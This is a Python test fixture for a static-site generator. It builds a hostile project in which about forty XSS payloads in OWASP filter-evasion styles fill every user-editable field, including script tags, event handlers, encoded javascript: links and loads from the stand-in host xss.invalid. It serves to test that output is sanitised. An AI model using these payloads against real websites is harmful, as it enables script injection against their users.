"""Hostile content for tests: XSS payloads, and a project with one in every field a user can fill.

The payloads follow the kinds in the OWASP XSS filter-evasion cheat sheet:
script tags, event handlers, ``javascript:`` and ``data:`` links, SVG and
MathML tricks, tags broken up to slip past filters, encoded entities,
attribute break-outs, and resources fetched from another host. Each one that
runs calls ``alert('xss-N')`` or asks ``xss.invalid`` for something, so a
browser test can tell which payload got through.
"""

from __future__ import annotations

from pathlib import Path

import yaml

from sitekit import Project, new_project

FOREIGN_HOST = "xss.invalid"

PAYLOADS = (
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>",
    "<img src=x onerror=\"alert('xss-3')\">",
    "<svg onload=alert('xss-4')>",
    "<svg><script>alert('xss-5')</script></svg>",
    "<a href=\"javascript:alert('xss-6')\">six</a>",
    "<a href=\"JaVaScRiPt:alert('xss-7')\">seven</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-8')\">eight</a>",
    "<a href=\"java&#x09;script:alert('xss-9')\">nine</a>",
    "<iframe src=\"javascript:alert('xss-10')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('xss-11')</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-12')>",
    "<math href=\"javascript:alert('xss-13')\">thirteen</math>",
    "<body onload=alert('xss-14')>",
    "<scr<script>ipt>alert('xss-15')</scr</script>ipt>",
    "\"><script>alert('xss-16')</script>",
    "\" autofocus onfocus=\"alert('xss-17')\" x=\"",
    "' autofocus onfocus='alert(\"xss-18\")' x='",
    "<style>@import 'http://xss.invalid/x.css';</style>",
    "<link rel=stylesheet href=http://xss.invalid/x.css>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTIxJyk8L3NjcmlwdD4=\"></object>",
    "<a href=\"data:text/html,<script>alert('xss-22')</script>\">twenty-two</a>",
    "<details open ontoggle=alert('xss-23')>",
    "<input autofocus onfocus=alert('xss-24')>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-25')\">",
    "<base href=\"http://xss.invalid/\">",
    "<form action=\"javascript:alert('xss-27')\"><button>go</button></form>",
    "&lt;script&gt;alert('xss-28')&lt;/script&gt;",
    "<img src=\"http://xss.invalid/pixel.gif\">",
    "<video><source onerror=\"alert('xss-30')\"></video>",
    "<svg><animate onbegin=alert('xss-31') attributeName=x dur=1s>",
    "<div style=\"background:url(http://xss.invalid/bg.png)\">thirty-two</div>",
    "[thirty-three](javascript:alert('xss-33'))",
    "![thirty-four](http://xss.invalid/md.png)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-35')>\">",
    "<svg><a xlink:href=\"javascript:alert('xss-36')\"><text x=20 y=20>thirty-six</text></a></svg>",
    "<img src=`x` onerror=alert('xss-37')>",
    "<<script>alert('xss-38');//<</script>",
    "<a href=\"vbscript:msgbox('xss-39')\">thirty-nine</a>",
    "{{ 7 * 7 }} {% raw %}xss-40{% endraw %}",
    "<embed src=\"http://xss.invalid/xss.swf\">",
    "<img srcset=\"http://xss.invalid/set.png 1x\">",
)

# The URL schemes a link in the site may use; relative links have none.
SAFE_SCHEMES = ("http", "https", "mailto")


def frontmatter_with(payload: str, n: int) -> dict:
    """Every field of an article that takes text, holding `payload`."""
    return {
        "title": f"Payload {n}: {payload}",
        "slug": f"payload-{n}",
        "outlet": payload,
        "author": payload,
        "published": "2025-12-12",
        "meeting": 5,
        "place": payload,
        "people": [
            {"name": f"Official {n} {payload}", "side": "US", "role": "co-chair", "title": payload, "written": payload},
            {"name": "Kim Hong-cheol", "side": "ROK", "role": "co-chair", "title": payload},
        ],
        "topics": ["extended-deterrence"],
        "quotes": [{"text": payload, "speaker": payload}, payload],
        "summary": payload,
        "rights": payload,
        "republish": True,
        "url": "https://example.org/article?q=%3Cscript%3E",
        "seed": payload,
        "seed_sha256": payload,
        "note": payload,
        payload: payload,
        "nested": {"key": payload, "list": [payload, payload]},
    }


def article_text(payload: str, n: int) -> str:
    fields = yaml.safe_dump(frontmatter_with(payload, n), sort_keys=False, allow_unicode=True)
    body = f"Paragraph before.\n\n{payload}\n\nA paragraph with {payload} inline.\n\n> {payload}\n\n- {payload}\n"
    return f"---\n{fields}---\n\n{body}"


def seed_text() -> str:
    """A raw article as pasted from a hostile page: payloads where a headline, lead and quotes go."""
    lines = [
        "Allies hold NCG talks <script>alert('xss-seed-1')</script>",
        "",
        "WASHINGTON (<img src=x onerror=alert('xss-seed-2')>) — The allies held the fifth meeting of the "
        "Nuclear Consultative Group in Washington, D.C., on Thursday <svg onload=alert('xss-seed-3')>.",
        "",
        "\"We will <a href=\"javascript:alert('xss-seed-4')\">deter</a> any attack,\" said Robert Soofer.",
    ]
    lines += [f"{payload} appeared in paragraph {n}." for n, payload in enumerate(PAYLOADS, 1)]
    lines += ["", "Copyright <b onmouseover=alert('xss-seed-5')>Hostile News</b>. All rights reserved."]
    return "\n\n".join(lines) + "\n"


def hostile_project(root: Path) -> Project:
    """A project whose site settings, articles and seed all carry payloads; ingested, ready to build."""
    project = new_project(root)
    site = project.root / "content" / "site.yml"
    site.write_text(
        yaml.safe_dump({"title": "Digest <script>alert('xss-site-1')</script>", "description": "\"><img src=x onerror=alert('xss-site-2')>"}),
        encoding="utf-8",
    )
    for n, payload in enumerate(PAYLOADS, 1):
        project.write(f"content/articles/payload-{n}.md", article_text(payload, n))
    project.write("seeds/hostile.txt", seed_text())
    (written,) = [r.written for r in project.ingest()]
    # Publish the ingested body too, so its sanitising is exercised.
    text = written.read_text(encoding="utf-8")
    written.write_text(text.replace("republish: false", "republish: true", 1), encoding="utf-8")
    return project
